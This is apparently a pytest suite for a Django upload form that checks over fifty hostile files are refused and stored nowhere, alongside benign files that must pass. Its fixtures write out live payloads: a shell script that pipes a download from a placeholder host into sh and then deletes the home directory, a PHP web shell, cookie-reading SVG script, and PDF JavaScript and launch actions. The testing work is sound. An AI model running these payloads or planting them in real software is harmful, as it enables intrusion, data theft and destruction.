"""A corpus of hostile files posted as a partner would: each refused with a message naming it, nothing stored.

Benign controls at the end must go through, so the corpus cannot pass by refusing everything.
"""

import gzip
import html
import io
import re
import zipfile
import zlib

import pytest
from django.conf import settings
from PIL import Image

from requests.attachments import clean_original_name
from requests.models import Attachment, Request
from tests.requests.builders import create_url, form_data, image_bytes, pdf_bytes, upload

SLUG = "etude-de-dossier"
STORED_NAME = re.compile(r"^attachments/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|jpg|jpeg)$")

# --- hostile contents -------------------------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x90" * 200
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode.\r\n" * 4
SHELL = b"#!/bin/sh\ncurl -s https://exemple.invalid/x | sh\nrm -rf ~/*\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\nos.system('id > /tmp/pwned')\n"
PHP = b"<?php system($_GET['c']); ?>\n"
HTML = b"<!doctype html><html><body><script>fetch('/demandes/').then(r => r.text())</script></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)
PNG = image_bytes("PNG", size=(16, 16))
JPEG = image_bytes("JPEG", size=(16, 16))


def zip_bytes(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


ZIP = zip_bytes({"facture.exe": MZ, "lisez-moi.txt": "Ouvrez facture.exe"})
DOCX = zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
XLSX = zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(64)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)
GZIP = gzip.compress(MZ)


def pdf_with(catalog_extra, body=b""):
    """A PDF that ends right (%%EOF) and whose catalog carries the given entries."""
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )


def pdf_object_stream(hidden):
    """The catalog's action hidden in a deflated object stream, invisible to a scan of the raw bytes."""
    packed = zlib.compress(hidden)
    return pdf_with(
        b"/Names 5 0 R",
        b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n",
    )


def jpeg_with_comment(comment):
    """A JPEG whose COM segment (right after SOI) carries the given text: Pillow still verifies it."""
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return JPEG[:2] + segment + JPEG[2:]


def png_with_text(text):
    chunk_data = b"Comment\x00" + text
    chunk = len(chunk_data).to_bytes(4, "big") + b"tEXt" + chunk_data
    chunk += zlib.crc32(b"tEXt" + chunk_data).to_bytes(4, "big")
    return PNG[:33] + chunk + PNG[33:]  # after the 8-byte signature and the 25-byte IHDR chunk


def other_image(fmt):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 120, 200)).save(buffer, format=fmt)
    return buffer.getvalue()


OVERSIZED = pdf_bytes() + b"%" + b"x" * settings.ATTACHMENT_MAX_SIZE + b"\n%%EOF\n"

HOSTILE = [
    # executables and scripts renamed as accepted types
    ("ordonnance.pdf", ELF, "elf-as-pdf"),
    ("photo.png", ELF, "elf-as-png"),
    ("attestation.pdf", MZ, "pe-as-pdf"),
    ("scan.jpg", MZ, "pe-as-jpg"),
    ("releve.pdf", SHELL, "shell-as-pdf"),
    ("photo.jpeg", SHELL, "shell-as-jpeg"),
    ("courrier.pdf", PYTHON, "python-as-pdf"),
    ("image.png", PHP, "php-as-png"),
    # markup with script, renamed or under its own extension
    ("page.pdf", HTML, "html-as-pdf"),
    ("page.png", HTML, "html-as-png"),
    ("page.html", HTML, "html"),
    ("page.htm", HTML, "htm"),
    ("logo.svg", SVG, "svg"),
    ("logo.png", SVG, "svg-as-png"),
    ("logo.jpg", SVG, "svg-as-jpg"),
    # PDF carrying JavaScript, launch actions or files
    ("js.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "pdf-openaction-javascript"),
    ("js-hex.pdf", pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "pdf-javascript-hex"),
    ("names.pdf", pdf_with(b"/Names << /JavaScript 3 0 R >>"), "pdf-javascript-name-tree"),
    ("aa.pdf", pdf_with(b"/AA << /O << /S /JavaScript /JS 6 0 R >> >>"), "pdf-additional-action"),
    ("launch.pdf", pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf-launch"),
    ("lance.pdf", pdf_with(b"/OpenAction << /S /L#61unch /F (calc.exe) >>"), "pdf-launch-hex"),
    ("embarque.pdf", pdf_with(b"/Names << /EmbeddedFiles 7 0 R >>"), "pdf-embedded-files"),
    (
        "piece.pdf",
        pdf_with(b"", b"8 0 obj << /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n"),
        "pdf-embedded-file",
    ),
    ("action.pdf", pdf_with(b"/OpenAction << /S /URI /URI (https://exemple.invalid) >>"), "pdf-openaction-uri"),
    ("indirect.pdf", pdf_with(b"/OpenAction 5 0 R"), "pdf-openaction-indirect"),
    (
        "cache.pdf",
        pdf_object_stream(b"5 0 << /JavaScript [(x) << /S /JavaScript /JS (app.alert(1)) >>] >>"),
        "pdf-javascript-object-stream",
    ),
    # polyglots
    ("gifar.png", PNG + ZIP, "png-then-zip"),
    ("gifar.jpg", JPEG + ZIP, "jpeg-then-zip"),
    ("image.png", PNG + HTML, "png-then-html"),
    ("image.jpg", JPEG + HTML, "jpeg-then-html"),
    ("commentaire.jpg", jpeg_with_comment(PHP), "jpeg-php-comment"),
    ("commentaire.jpeg", jpeg_with_comment(HTML), "jpeg-html-comment"),
    ("texte.png", png_with_text(HTML), "png-html-text-chunk"),
    ("precede.pdf", HTML + pdf_bytes(), "html-then-pdf"),
    # archives renamed .pdf (or as themselves)
    ("dossier.pdf", ZIP, "zip-as-pdf"),
    ("courrier.pdf", DOCX, "docx-as-pdf"),
    ("tableau.pdf", XLSX, "xlsx-as-pdf"),
    ("archive.pdf", RAR, "rar-as-pdf"),
    ("archive7.pdf", SEVEN_ZIP, "7z-as-pdf"),
    ("compresse.pdf", GZIP, "gzip-as-pdf"),
    ("dossier.zip", ZIP, "zip"),
    ("courrier.docx", DOCX, "docx"),
    # empty, oversized, truncated
    ("vide.pdf", b"", "empty-pdf"),
    ("vide.png", b"", "empty-png"),
    ("vide.jpg", b"", "empty-jpg"),
    ("enorme.pdf", OVERSIZED, "oversized-pdf"),
    ("tronque.png", image_bytes("PNG", size=(64, 64))[:60], "truncated-png"),
    ("tronque.jpg", image_bytes("JPEG", size=(64, 64))[:200], "truncated-jpeg"),
    ("tronque.pdf", pdf_bytes()[:-8], "truncated-pdf"),
    # content and extension disagree
    ("photo.jpg", PNG, "png-as-jpg"),
    ("photo.png", JPEG, "jpeg-as-png"),
    ("scan.png", pdf_bytes(), "png-name-pdf-content"),
    ("scan.pdf", PNG, "png-as-pdf"),
    ("anime.png", other_image("GIF"), "gif-as-png"),
    ("carte.jpg", other_image("BMP"), "bmp-as-jpg"),
    ("scan.jpg", other_image("TIFF"), "tiff-as-jpg"),
    # double extensions
    ("facture.pdf.exe", MZ, "double-extension-exe"),
    ("facture.exe.pdf", MZ, "double-extension-exe-pdf"),
    ("photo.png.html", HTML, "double-extension-html"),
    # path traversal (the content decides; the stored name is generated anyway)
    ("../../etc/passwd.pdf", ELF, "traversal-unix"),
    ("..\\..\\windows\\win.ini.pdf", b"[fonts]\r\n", "traversal-windows"),
    ("/etc/cron.d/tache.pdf", SHELL, "traversal-absolute"),
    # right-to-left override
    ("facture\u202efdp.exe", MZ, "rtlo-exe"),
    ("rapport\u202egnp.pdf", MZ, "rtlo-pdf-with-exe"),
    ("photo\u202egpj.png", HTML, "rtlo-png-with-html"),
    # NUL bytes, very long names, only dots
    ("facture.pdf\x00.exe", MZ, "nul-byte-exe"),
    ("photo\x00.png", HTML, "nul-byte-png"),
    ("a" * 300 + ".pdf", ELF, "long-name-pdf"),
    ("b" * 300 + ".exe", MZ, "long-name-exe"),
    ("...", pdf_bytes(), "only-dots"),
    ("....pdf", MZ, "dots-then-pdf"),
]

# Why each case is refused (the error code); every other case is refused for its content.
REFUSED_BY = {
    "file_extension": {
        "html",
        "htm",
        "svg",
        "zip",
        "docx",
        "double-extension-exe",
        "double-extension-html",
        "rtlo-exe",
        "nul-byte-exe",
        "long-name-exe",
        "only-dots",
        "dots-then-pdf",
    },
    "file_empty": {"empty-pdf", "empty-png", "empty-jpg"},
    "file_size": {"oversized-pdf"},
    "file_active_content": {case_id for _, _, case_id in HOSTILE if case_id.startswith("pdf-")},
    "file_payload": {
        "png-then-zip",
        "jpeg-then-zip",
        "png-then-html",
        "jpeg-then-html",
        "jpeg-php-comment",
        "jpeg-html-comment",
        "png-html-text-chunk",
    },
}
CODE_OF = {case_id: code for code, case_ids in REFUSED_BY.items() for case_id in case_ids}


def deposit(client, *files):
    return client.post(create_url(SLUG), form_data(SLUG, files=list(files)))


def files_under(folder):
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "code"), [pytest.param(n, c, CODE_OF.get(i, "file_content"), id=i) for n, c, i in HOSTILE]
)
def test_hostile_file_is_refused(technicien_client, stored_files, tmp_path, mailoutbox, name, content, code):
    response = deposit(technicien_client, upload(name, content, "application/pdf"))

    assert response.status_code == 200, "the deposit went through"
    errors = response.context["form"].errors["attachments"]
    shown = clean_original_name(name)
    assert len(errors) == 1 and errors[0].startswith(f"« {shown} »"), errors
    assert response.context["form"].errors.as_data()["attachments"][0].code == code
    assert shown in html.unescape(response.content.decode())
    assert errors[0] in html.unescape(response.content.decode())
    assert not Request.objects.exists() and not Attachment.objects.exists()
    assert stored_files() == [] and files_under(tmp_path) == [] and mailoutbox == []


def test_corpus_is_large_and_distinct():
    assert len(HOSTILE) >= 50
    assert len({case_id for _, _, case_id in HOSTILE}) == len(HOSTILE)
    assert len({(name, content) for name, content, _ in HOSTILE}) == len(HOSTILE)


def progressive_jpeg_with_exif():
    buffer = io.BytesIO()
    image = Image.effect_noise((64, 48), 60).convert("RGB")
    exif = image.getexif()
    exif[0x010F] = "Fabricant"
    image.save(buffer, format="JPEG", exif=exif, progressive=True)
    return buffer.getvalue()


BENIGN = [
    ("justificatif.pdf", pdf_bytes(), "pdf"),
    ("capture.png", image_bytes("PNG", size=(32, 24)), "png"),
    ("photo.jpg", image_bytes("JPEG", size=(32, 24)), "jpeg"),
    ("photo.jpeg", progressive_jpeg_with_exif(), "progressive-jpeg-exif"),
    ("FACTURE.PDF", pdf_bytes(), "uppercase-extension"),
    ("Relevé d'activité – Éloïse.pdf", pdf_bytes(), "accented-name"),
    ("vue.pdf", pdf_with(b"/OpenAction [3 0 R /Fit]"), "pdf-opening-view"),
    ("../../etc/passwd.pdf", pdf_bytes(), "traversal-name-real-pdf"),
    ("rapport\u202egnp.pdf", pdf_bytes(), "rtlo-name-real-pdf"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content"), [pytest.param(n, c, id=i) for n, c, i in BENIGN])
def test_benign_file_is_accepted(technicien_client, stored_files, private_media, tmp_path, name, content):
    response = deposit(technicien_client, upload(name, content, "application/pdf"))

    assert response.status_code == 302, response.context["form"].errors if response.context else response
    attachment = Attachment.objects.get()
    assert attachment.original_name == clean_original_name(name)
    assert "\u202e" not in attachment.original_name and "/" not in attachment.original_name
    [stored] = stored_files()
    assert STORED_NAME.match(stored), stored
    assert clean_original_name(name).rsplit(".", 1)[0].lower() not in stored.lower()
    assert files_under(tmp_path) == [private_media / stored]
    assert (private_media / stored).read_bytes() == content
